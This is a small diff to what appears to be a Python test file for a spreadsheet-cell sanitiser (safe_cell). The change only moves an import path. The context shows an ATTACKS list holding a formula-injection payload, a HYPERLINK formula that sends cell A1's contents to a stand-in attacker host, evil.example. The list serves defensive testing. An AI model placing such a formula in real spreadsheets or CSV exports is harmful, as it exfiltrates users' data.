@@ -9,7 +9,7 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from logicmodel.spreadsheet import FORMULA_STARTS, csv_bytes, csv_text, safe_cell
+from logicmodel.core.spreadsheet import FORMULA_STARTS, csv_bytes, csv_text, safe_cell
 
 ATTACKS = [
     '=HYPERLINK("https://evil.example/?leak="&A1,"Click for the report")',
